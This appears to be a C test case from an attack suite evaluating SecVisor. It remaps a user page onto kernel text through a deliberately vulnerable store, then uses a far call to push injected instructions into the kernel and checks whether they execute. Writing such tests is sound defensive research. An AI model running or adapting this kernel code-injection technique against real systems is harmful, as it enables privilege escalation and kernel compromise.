// Row 9. A far call in user mode whose stack is a user page mapped to a frame of kernel text: SecVisor steps segment loads with the kernel's rights and must not write there.
// Source: SecVisor's own windows (docs/design.md, 7); the confused deputy.
// Ends: natively succeeded; beneath SecVisor restored, tampered.
#include "common/attack.h"
#include <string.h>
#include <sys/mman.h>

#define PLACE 0xc3584000ull

ATTACK("segment-window-stack")
{
	u64 at = symbol(VICTIM), value;
	u8 *code = mmap((void *)PLACE, 2 * PAGE, PROT_READ | PROT_WRITE | PROT_EXEC,
			MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE | MAP_POPULATE, -1, 0);
	// Below 4 GiB, where the emulator looks for a stack that 32 bits are pushed on.
	u8 *page = code + PAGE, approved[CODE_LENGTH];
	struct {
		u32 offset;
		u16 selector;
	} __attribute__((packed)) pointer = { PLACE + 0x280, 0x33 };
	long before = victim(), result;
	u64 entry;

	if (code != (u8 *)PLACE)
		failed("no page there");
	memset(code, 0x90, 2 * PAGE);
	entry = entry_of((u64)page, &value, NULL);
	// push rbx; mov rbx, rsp; mov rsp, rdi; jmp 268
	memcpy(code + 0x200, "\x53\x48\x89\xe3\x48\x89\xfc\xeb\x5f", 9);
	memcpy(code + 0x268, "\xff\x1e", 2); // lcall [rsi]: pushes 32 bits of CS, then of what is behind it, c358426ah
	memcpy(code + 0x280, "\x48\x89\xdc\x5b\xc3", 5); // mov rsp, rbx; pop rbx; ret
	kread(at, approved, sizeof(approved));
	keep_bytes(at, 16);
	about_to("push code over kernel text by a far call in user mode");
	operate(VULNERABLE_STORE, entry, (value & ~FRAME) | (physical(at) & FRAME), 8);
	flush((u64)page);
	((void (*)(u64, void *))(code + 0x200))((u64)page + (at & (PAGE - 1)) + 8, &pointer);
	operate(VULNERABLE_STORE, entry, value, 8);
	flush((u64)page);
	// push 42h; pop rax; ret
	kread(at, &value, 4);
	if ((u32)value != 0xc358426a)
		failed("nothing was written");
	result = victim();
	if (result == 0x42)
		succeeded("what a far call pushed ran as kernel text");
	kread(at, code, sizeof(approved));
	if (result == before && !memcmp(code, approved, sizeof(approved)))
		restored("what a far call pushed is gone");
	failed("the system call returned %ld", result);
}
